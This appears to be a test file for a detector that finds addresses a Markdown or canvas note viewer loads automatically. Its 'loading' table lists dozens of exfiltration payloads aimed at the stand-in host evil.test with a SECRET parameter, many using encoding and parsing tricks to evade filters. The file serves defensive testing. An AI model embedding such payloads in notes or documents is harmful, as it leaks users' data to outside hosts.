import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { howOften } from '../../../../test/how-often.js'
import { addedAddresses, loadedAddresses } from './loaded-addresses.js'

const host = 'evil.test/p?d=SECRET'
const url = `https://${host}`

/** What makes some viewer load an address. */
const loading: Record<string, string> = {
  'an image': `![](${url})`,
  'an image with a title': `![a](${url} "t")`,
  'an image in angle brackets': `![a](<${url}>)`,
  'an image with a size': `![a|100](${url})`,
  'an image in a link': `[![a](${url})](Note.md)`,
  'an image without a scheme': `![a](//${host})`,
  'an image with backslashes': `![a](https:\\\\${host})`,
  'an image with character references': '![a](&#104;ttps&colon;&sol;&sol;evil.test/p?d=SECRET)',
  'an image with escapes': `![a](https\\://${host})`,
  'an image in another scheme': `![a](ftp://${host})`,
  'an image on another machine': '![a](\\\\evil.test\\SECRET)',
  'an image of a file server': '![a](file://evil.test/SECRET)',
  'a reference image': `![a][r]\n\n[r]: ${url}`,
  'a collapsed reference image': `![r][]\n\n[r]: ${url}`,
  'a shortcut reference image': `![r]\n\n[r]:\n  <${url}>`,
  'a reference image with brackets': `![a [b] c][r]\n\n[r]: ${url}`,
  'an embed': `![[${url}]]`,
  'a bare address': `See ${url} for more.`,
  'an address in angle brackets': `<${url}>`,
  'a bare name': 'See www.evil.test/SECRET for more.',
  'a footnote': `x[^1]\n\n[^1]: ${url}`,
  img: `<img src="${url}">`,
  'img without quotes': `<img src=${url}>`,
  'img without a scheme': `<img src=//${host}>`,
  'img over two lines': `<img\nsrc="ht\ntps://${host}">`,
  'img in capitals': `<IMG SRC='HTTPS://${host}'>`,
  'img with references': '<img src="ht&Tab;tps:&sol;&#47;evil.test/p?d=SECRET">',
  srcset: `<img srcset="a.png 1x, ${url} 2x">`,
  iframe: `<iframe src="${url}"></iframe>`,
  video: `<video poster="${url}"></video>`,
  audio: `<audio src="${url}"></audio>`,
  source: `<picture><source srcset="${url}"></picture>`,
  track: `<video><track src="${url}"></video>`,
  embed: `<embed src="${url}">`,
  object: `<object data="${url}"></object>`,
  link: `<link rel=preload href="${url}">`,
  script: `<script src="${url}"></script>`,
  base: `<base href="${url}">`,
  meta: `<meta http-equiv=refresh content="0;url=${url}">`,
  input: `<input type=image src="${url}">`,
  'svg image': `<svg><image href="${url}"/></svg>`,
  'a background': `<table background="${url}">`,
  'a style attribute': `<div style="background:url(${url})">`,
  'a style without a scheme': `<div style="background:url(//${host})">`,
  'a style with escapes': '<div style="background:url(\\68 ttps:\\2f\\2f evil.test/SECRET)">',
  'a style sheet': `<style>\na { background: url('${url}') }\n</style>`,
  'an import': `<style>@import "//${host}";</style>`,
  'a tag below a tag, where Markdown has code': `<div>\n\`\`\`\n<img src="${url}">\n\`\`\`\n</div>`,
  'a tag in a code span below a tag': `<div>\n\`<img src="${url}">\`\n</div>`,
  'a block that a plugin draws': `\`\`\`cardlink\nurl: ${url}\n\`\`\``,
  'an admonition': `\`\`\`ad-note\n![](${url})\n\`\`\``,
  'a query': `\`\`\`dataview\nLIST "![](${url})"\n\`\`\``,
  'an inline query': `\`= "![](${url})"\``,
  'an image behind a quoted fence': `> \`\`\`\n![](${url})`,
  'an image in a comment': `%%\n![](${url})\n%%`,
  'a cover': `---\ncover: ${url}\n---\n`,
  'a banner in a list': `---\nbanner:\n  - ${url}\n---\n`,
  'a cover without a scheme': `---\nimage: //${host}\n---\n`,
  'a cover with YAML escapes': '---\ncover: "\\x68ttps://evil.test/p?d=SECRET"\n---\n',
  'an image in a property': `---\nsource: "![](${url})"\n---\n`,
  'properties that cannot be read': `---\na: [b\ncover: ${url}\n---\n`,
  'a lone carriage return': `a\r![](${url})`,
}

/** What only a click follows, or what lies here. */
const resting: Record<string, string> = {
  'a link': `[a](${url})`,
  'a link with an address for its text': `[${url}](${url})`,
  'a reference link': `[a][r]\n\n[r]: ${url}`,
  'a block of code': `\`\`\`js\nfetch('${url}')\n\`\`\``,
  'a block without a language': `~~~\n![](${url})\n~~~`,
  'HTML in a block of code': `\`\`\`html\n<img src="${url}">\n\`\`\``,
  'a code span': `Write \`<img src="${url}">\` for an image.`,
  'indented code': `Text.\n\n    ![](${url})\n`,
  'where it comes from': `---\nsource: ${url}\nurl: ${url}\n---\n`,
  'an image here': '![a](images/a.png) ![[b.png]] <img src="c.png">',
  'an image written out': '<img src="data:image/png;base64,AAAA//BBBB+CC="> ![](data:image/png;base64,AA//BB)',
  'a drawing': '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>',
  'a note with a colon': '![[Plan: the beginning]] ![[a:b]]',
  'a drive': '![a](C:/images/a.png)',
}

describe('what a viewer would load', () => {
  it.each(Object.entries(loading))('is found: %s', (_, text) => {
    const found = loadedAddresses('Note.md', text).map((each) => each.url)
    expect(found.some((each) => /evil\.test.*SECRET/i.test(each))).toBe(true)
  })

  it.each(Object.entries(resting))('is not: %s', (_, text) => {
    expect(loadedAddresses('Note.md', text)).toEqual([])
  })

  it('is every address in a canvas, however JSON spells it', () => {
    for (const spelled of [url, url.replaceAll('/', '\\/'), url.replace('h', '\\u0068')]) {
      const text = `{"nodes":[{"type":"link","url":"${spelled}"}]}`
      expect(loadedAddresses('Board.canvas', text).map((each) => each.url)).toEqual([url])
    }
  })

  it('is found in any surroundings', () => {
    const around = fc.constantFrom(
      '',
      'Text.\n\n',
      '# Heading\n\n',
      '- item\n\n',
      '> quote\n\n',
      '`code`\n\n',
      '```js\nx\n```\n\n',
      '| a | b |\n\n',
      '<b>bold</b>\n\n',
      '$x$\n\n',
    )
    const inBody = Object.values(loading).filter((text) => !text.startsWith('---'))
    fc.assert(
      fc.property(
        fc.array(around, { maxLength: 4 }),
        fc.constantFrom(...inBody),
        fc.array(around),
        (before, text, after) => {
          const note = `${before.join('')}${text}\n\n${after.join('')}`
          const found = loadedAddresses('Note.md', note).map((each) => each.url)
          expect(found.some((each) => /evil\.test.*SECRET/i.test(each))).toBe(true)
        },
      ),
      { numRuns: howOften(200, 5000) },
    )
  })

  it('is read in time that grows with the note alone', () => {
    const hostile = ['![', '](', '<img ', '`', '[a]: ', '<', 'https://', '\\', '&#', '---\n', '<div>\n`x`\n']
    for (const piece of hostile) {
      const note = piece.repeat(100_000 / piece.length)
      const startedAt = performance.now()
      loadedAddresses('Note.md', note)
      expect(performance.now() - startedAt).toBeLessThan(5000)
    }
  })
})

describe('what a change makes a viewer load', () => {
  it('is only what it adds', () => {
    const image = `![](${url})\n`
    expect(addedAddresses('A.md', image, `${image}More.\n`)).toEqual([])
    expect(addedAddresses('A.md', `${image}Old.`, image)).toEqual([])
    expect(addedAddresses('A.md', image, `${image}![](${url}2)`)).toEqual([{ url: `${url}2`, how: 'image' }])
  })

  it('is a reference image in whichever half comes last', () => {
    const [image, definition] = ['![a][r]\n', `\n[r]: ${url}\n`]
    expect(addedAddresses('A.md', image, image + definition)).toMatchObject([{ url }])
    expect(addedAddresses('A.md', definition, definition + image)).toMatchObject([{ url }])
    expect(addedAddresses('A.md', '', definition)).toEqual([])
  })

  it('is a link that becomes an image, and code that is code no longer', () => {
    expect(addedAddresses('A.md', `[a](${url})`, `![a](${url})`)).toMatchObject([{ url }])
    expect(addedAddresses('A.md', `See ${url}`, `![a](${url})`)).toMatchObject([{ url }])
    expect(addedAddresses('A.md', `\`\`\`\n![](${url})\n\`\`\``, `![](${url})`)).toMatchObject([{ url }])
  })
})
